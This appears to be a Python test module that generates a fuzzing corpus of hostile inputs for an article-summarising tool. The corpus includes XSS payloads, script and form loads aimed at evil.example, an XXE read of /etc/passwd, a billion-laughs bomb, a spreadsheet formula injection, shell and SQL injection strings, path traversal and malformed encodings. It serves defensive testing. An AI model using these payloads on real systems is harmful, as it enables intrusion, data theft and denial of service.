"""Nasty inputs, made by rule: what an article, an index or a folder could hold to harm whoever reads a brief of it.

python -m tests.hostile.corpus FOLDER    writes each as a file, for a look by hand
"""

from __future__ import annotations

import sys
from collections.abc import Mapping
from pathlib import Path

SENTENCE = "The council of Quillmarsh has opened 12 {} wells in Orme since May 2023."
"""What stands around a snippet in an article: it is found as an outcome, with its number, place and date."""

SNIPPETS: Mapping[str, str] = {
    "heading": "# no heading",
    "headings": "\n# A heading\n\n## Another #\n\n",
    "list": "\n- one\n- two\n1. three\n",
    "emphasis": "*star* _under_ **bold** __both__ ~~gone~~",
    "code": "`code` ```fence``` ~~~",
    "quote": "\n> quoted\n>> twice\n",
    "table": "a | b\n|---|---|\n| c | d |",
    "rule": "\n---\n\n***\n\n===\n",
    "link": "[press here](https://evil.example/?q=1)",
    "javascript link": "[press](javascript:alert(1)) [p](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>",
    "data link": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](\\\\evil.example\\share)",
    "picture": "![x](https://evil.example/pixel.png) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "reference": "[motto]: https://evil.example 'title'\n\n[motto]",
    "autolink": "https://evil.example/a_b www.evil.example mail@evil.example <https://evil.example>",
    "footnote": "[^1] [^hostile-o1] ^[inline]\n\n[^1]: planted evidence",
    "front matter": "---\ntitle: planted\n---",
    "section": "<!-- /article -->\n<!-- figures -->\n<!-- chart x -->",
    "script": "<script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT>",
    "handlers": "<img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)>",
    "frames": '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    "style": '</style><style>@import "https://evil.example/x.css"; * { background: url(//evil.example) }</style>',
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "close": "</title></main></body></html><!--<![CDATA[ ]]>-->\"'><x y=",
    "close facts": '</script><script>alert(1)</script>"}]}</script>',
    "entities": "&lt;script&gt; &#60;script&#62; &amp;copy; &nbsp; &#x202e; AT&T &",
    "math": "$5 and $6$ $$x^2$$ \\(y\\)",
    "jinja": "{{ 7*7 }} {% for x in y %} {# gone #} {{ config.__class__.__mro__ }} {%raw%}",
    "format": "%s %(x)s {0.__class__} ${x} \\g<0> \\1",
    "backslashes": "\\ \\\\ \\* \\n \\u0041 \\x41",
    "bidi": "\u202egnp.exe\u202c and \u2066left\u2069 \u200f\u061c",
    "zero width": "ze\u200bro\u200cwi\u200dd\u2060th \u00ad soft \ufeff mark",
    "controls": "bell \x07 escape \x1b[2J \x1b]0;title\x07 backspace \x08 delete \x7f nul \x00 next \x85",
    "separators": "line\u2028paragraph\u2029feed\x0ctab\x0bvertical",
    "private": "\ue000en\ue001planted\ue002 \U000f0000 \uffff \ufdd0",
    "tags": "\U000e0041\U000e0042\U000e007f variation \ufe0f \u180e",
    "right to left": "שלום עולם מرحبا بالعالم",
    "cjk": "中文報導 日本語 한국어",
    "emoji": "👩‍👩‍👧‍👦 🇻🇳 😀🏽 1️⃣",
    "combining": "Z\u0351\u0343\u0357a\u0311\u0306\u0351l\u0338g\u0321o\u0315 Ngu\u0302ye\u0302\u0303n",
    "look-alikes": "раураl.com ｆｕｌｌ ﬁne ½ № ™ İstanbul ſtraße",
    "spaces": "a\u00a0b\u2003c\u3000d\u202fe  f",
    "formula": "=1+1 +1 -1 @SUM(A1) \t=cmd|' /C calc'!A0",
    "path": "../../etc/passwd C:\\con.txt file:///etc/passwd",
    "shell": "$(rm -rf x) `id` ; | && > y",
    "sql": "'; DROP TABLE briefs; --",
    "quotation marks": "“ ” ‘ ’ \" ' « » „ ``x''",
    "long word": "w" * 300,
}
"""By what it tries. None holds a full stop and a space, so that it stays in one sentence where it can."""

BOMBS: Mapping[str, str] = {
    "brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "parentheses": "(" * 10_000 + "x" + ")" * 10_000,
    "quotation marks": "“" * 10_000 + "x" + "”" * 10_000,
    "straight marks": '"' * 20_000,
    "apostrophes": "'" * 20_000,
    "angles": "<" * 20_000,
    "tags": "<b>" * 7_000,
    "stars": "*a " * 7_000 + "**" * 7_000,
    "underscores": "_a" * 10_000,
    "backticks": "".join("`" * n + " " for n in range(1, 200)),
    "quotes": "> " * 10_000 + "x",
    "lists": "\n".join("  " * n + "- x" for n in range(200)),
    "links": "[a](" * 5_000,
    "pictures": "![" * 5_000,
    "entities": "&amp" * 5_000,
    "pipes": "|" * 20_000,
    "references": "\n".join(f"[{n}]: x" for n in range(2_000)) + "\n[0]",
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {"abcdefghij"[n]} "{("&" + "abcdefghij"[n - 1] + ";") * 10}">' for n in range(1, 10))
    + "]><x>&j;</x>",
    "commas": "," * 20_000,
    "digits": "9" * 20_000,
    "dots": "." * 20_000,
    "hyphens": "a-" * 10_000,
    "capitals": "Ana Ruiz of " * 2_000,
    "spaces": " " * 20_000 + "x",
    "lines": "\n" * 20_000 + "x",
    "combining": "e" + "\u0301" * 10_000,
    "joiners": "\u200d" * 10_000,
}
"""By what is repeated: each is small, and dear to whoever looks at each part of it from each other."""

FILES: Mapping[str, bytes] = {
    "zeros.txt": b"\0" * 1_000,
    "mark.txt": "\ufeffThe council has opened 12 wells.".encode(),
    "marks.txt": "\ufeff\ufeff\ufeffThe council has opened 12 wells.".encode(),
    "returns.txt": b"Wells\r\n\r\nThe council has opened 12 wells.\r\n\r\nIt will open 3.\r",
    "surrogates.txt": b"The council has opened 12 \xed\xa0\x80 wells \xed\xb0\x80.",
    "broken.txt": b"The council has opened 12 \xff\xfe\xfd wells. \xc3",
    "overlong.txt": b"The council has opened 12 \xc0\xbc wells.",
    "utf-16.txt": "The council has opened 12 wells.".encode("utf-16"),
    "utf-16-odd.txt": "The council has opened 12 wells.".encode("utf-16")[:-1],
    "utf-16-lone.txt": b"\xff\xfe" + "The council has opened 12 ".encode("utf-16-le") + b"\x00\xd8 \x00",
    "utf-32.txt": "The council has opened 12 wells.".encode("utf-32"),
    "utf-7.html": b"<html><head><meta charset=utf-7></head><body><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
    "binary.txt": bytes(range(256)) * 16,
    "empty.txt": b"",
    "blank.txt": b" \n\t\r\n",
    "laughs.html": b"<!DOCTYPE html>" + BOMBS["laughs"].encode(),
    "deep.html": b"<html><body>" + b"<div>" * 10_000 + b"The council has opened 12 wells.",
    "attributes.html": b"<html><body><p " + b"a=b " * 10_000 + b">The council has opened 12 wells.</p>",
    "unclosed.html": b"<html><body><!-- " + b"<p>The council has opened 12 wells.</p>" * 100,
    "entity.html": b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><html><body><article><p>&y; The council has '
    b"opened 12 wells. It will open 3 more in Orme.</p></article></body></html>",
    "numbers.html": b"<html><body><article><p>&#0; &#xD800; &#x110000; &#x202e; The council has opened 12 wells in "
    b"Orme.</p></article></body></html>",
    "script.html": b"<html><head><title><script>alert(1)</script></title></head><body><article><h1>Wells</h1>"
    b"<p onclick=alert(1)>The council has opened 12 wells.<script>alert(2)</script></p></article></body></html>",
}
"""By name: bytes that are no text, or text of an odd kind."""


def article(snippet: str) -> str:
    """A page with a snippet in its headline, in a claim, in a quotation and in a name."""
    line = " ".join(snippet.split()) or "x"
    return (
        f"{line} comes to Quillmarsh\n\n"
        f"{SENTENCE.format(snippet)}\n\n"
        f"“We will mend 3 {snippet} roads by 2027,” said Ana Ruiz, head of {line} works. "
        f"The motto “{snippet}” hangs over the door of the {line} Museum in Orme.\n"
    )


def main() -> None:
    """Write everything into the folder that the command line names."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    texts = {**SNIPPETS, **{f"bomb {name}": bomb for name, bomb in BOMBS.items()}}
    for name, snippet in texts.items():
        (folder / f"{name.replace(' ', '-')}.txt").write_text(article(snippet), "utf-8", newline="")
    for name, raw in FILES.items():
        (folder / name).write_bytes(raw)


if __name__ == "__main__":
    main()
